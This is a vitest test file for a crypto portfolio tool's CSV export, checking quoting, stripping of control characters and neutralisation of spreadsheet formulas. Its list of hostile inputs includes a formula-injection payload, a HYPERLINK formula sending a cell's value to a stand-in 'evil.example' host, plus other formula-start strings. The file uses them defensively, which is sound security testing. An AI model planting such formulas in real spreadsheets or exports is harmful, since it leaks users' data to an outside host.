import { parse } from "csv-parse/sync";
import fc from "fast-check";
import { describe, expect, it } from "vitest";
import type { AssetBalance } from "../../src/brokers/types.js";
import {
  ASSETS_CSV_HEADER,
  csvField,
  REPORT_CSV_HEADER,
  renderAssetsCsv,
  renderReportCsv,
  toCsv,
} from "../../src/render/csv.js";
import { PORTFOLIO_CSV_HEADER, renderPortfolioCsv } from "../../src/render/portfolio.js";
import { buildReport } from "../../src/report/model.js";
import { buildPortfolio } from "../../src/report/portfolio.js";
import { row, user } from "../report/fixtures.js";

/** A real RFC 4180 parser, strict about quotes and field counts. */
const read = (text: string): string[][] =>
  parse(text, { relax_quotes: false, relax_column_count: false, record_delimiter: "\r\n" });

const HOSTILE = [
  "Smith, John",
  'The "Boss"',
  "two\nlines",
  "cr\r\nlf",
  '=HYPERLINK("http://evil.example/?x="&A1,"click")',
  "+1+2",
  "-2+3",
  "@SUM(A1:A2)",
  "\tTabbed",
  "ordinary",
  "",
  "ünïcødé 💰",
];

/** What a spreadsheet-safe round trip gives back: the text, with a `'` before a formula start. */
const expected = (text: string) => (/^[=+\-@\t\r]/.test(text) ? `'${text}` : text);

const a = (total: string, usdCents: bigint | null): AssetBalance => ({
  free: total,
  used: "0",
  total,
  usdCents,
});

describe("csvField and toCsv", () => {
  it("round-trips hostile names through a real CSV parser, formulas neutralised", () => {
    const text = toCsv(
      ["name", "n"],
      HOSTILE.map((name, i) => [name, i]),
    );
    expect(text.endsWith("\r\n")).toBe(true);
    const [header, ...rows] = read(text);
    expect(header).toEqual(["name", "n"]);
    expect(rows).toEqual(HOSTILE.map((name, i) => [expected(name), String(i)]));
    expect(csvField('=HYPERLINK("x")')).toBe(`"'=HYPERLINK(""x"")"`);
  });

  it("keeps negative and plain numbers as numbers, empty for null", () => {
    expect(csvField("-12.50")).toBe("-12.50");
    expect(csvField(-5n)).toBe("-5");
    expect(csvField(null)).toBe("");
    expect(csvField(undefined)).toBe("");
    expect(csvField("-1e5")).toBe("'-1e5");
  });

  it("drops escape sequences and other control characters, keeping line breaks", () => {
    expect(csvField("\u001b[31mred\u001b[0m")).toBe("[31mred[0m");
    expect(csvField("a\u0000b\u0007c\u202ed")).toBe("abcd");
    expect(read(toCsv(["x"], [["a\nb"]]))[1]).toEqual(["a\nb"]);
  });

  it("round-trips any text without control characters (property)", () => {
    const text = fc.string({ unit: "grapheme", maxLength: 30 });
    const printable = fc.oneof(
      text,
      fc.constantFrom(...HOSTILE),
      fc.tuple(fc.constantFrom('"', ",", "\n", "\r\n", "=", "-", "@"), text).map(([x, y]) => x + y),
    );
    fc.assert(
      fc.property(fc.array(fc.array(printable, { minLength: 2, maxLength: 2 })), (rows) => {
        const parsed = read(toCsv(["a", "b"], rows)).slice(1);
        expect(parsed).toEqual(rows.map((r) => r.map(expected)));
      }),
      { numRuns: 300 },
    );
  });
});

/** Hostile names and ids where config files let them in. */
function hostileReport() {
  return buildReport({
    platform: {
      kind: "platform",
      id: "platform",
      name: 'Nija, "the" System',
      enabled: true,
      rows: [row("kraken", 567890n, { assets: { USD: a("5678.9", 567890n) } })],
    },
    users: [
      user(
        '=HYPERLINK("x")',
        [
          row("coinbase", null, { status: "auth_failed", source: "none", fetchedAt: null }),
          row("kraken", 100n, {
            source: "cached",
            ageSeconds: 45.4,
            assets: { USD: a("1", 100n), "XY,Z": a("-0.5", null) },
          }),
        ],
        { name: 'Smith, John\n"Jr"' },
      ),
      user("bob", [row("kraken", 100n, { duplicateOf: 'user =HYPERLINK("x")' })]),
    ],
    generatedAt: new Date("2026-01-21T16:00:00.000Z"),
  });
}

describe("renderReportCsv", () => {
  it("writes one line per account and broker, usd empty when unknown, and parses back", () => {
    const [header, ...rows] = read(renderReportCsv(hostileReport()));
    expect(header).toEqual([...REPORT_CSV_HEADER]);
    const at = "2026-01-21T16:00:00.000Z";
    expect(rows).toEqual([
      ["platform", 'Nija, "the" System', "kraken", "5678.90", "ok", "live", "", at, ""],
      [`'=HYPERLINK("x")`, 'Smith, John\n"Jr"', "coinbase", "", "auth_failed", "none", "", "", ""],
      [`'=HYPERLINK("x")`, 'Smith, John\n"Jr"', "kraken", "1.00", "ok", "cached", "45", at, ""],
      ["bob", "", "kraken", "1.00", "ok", "live", "", at, 'user =HYPERLINK("x")'],
    ]);
  });
});

describe("renderAssetsCsv", () => {
  it("writes one line per account, broker and asset", () => {
    const [header, ...rows] = read(renderAssetsCsv(hostileReport()));
    expect(header).toEqual([...ASSETS_CSV_HEADER]);
    expect(rows).toEqual([
      ["platform", "kraken", "USD", "5678.9", "0", "5678.9", "5678.90"],
      [`'=HYPERLINK("x")`, "kraken", "USD", "1", "0", "1", "1.00"],
      [`'=HYPERLINK("x")`, "kraken", "XY,Z", "-0.5", "0", "-0.5", ""],
    ]);
  });
});

describe("renderPortfolioCsv", () => {
  it("writes one line per asset in the portfolio's order, and parses back", () => {
    const portfolio = buildPortfolio(hostileReport());
    const [header, ...rows] = read(renderPortfolioCsv(portfolio));
    expect(header).toEqual([...PORTFOLIO_CSV_HEADER]);
    expect(rows).toEqual([
      ["asset", "USD", "USD", "5679.9", "0", "5679.90", "100.00", "2", "platform / kraken"],
      ["asset", "XY,Z", "XY,Z", "-0.5", "-0.5", "", "", "1", `'=HYPERLINK("x") / kraken`],
    ]);
  });
});
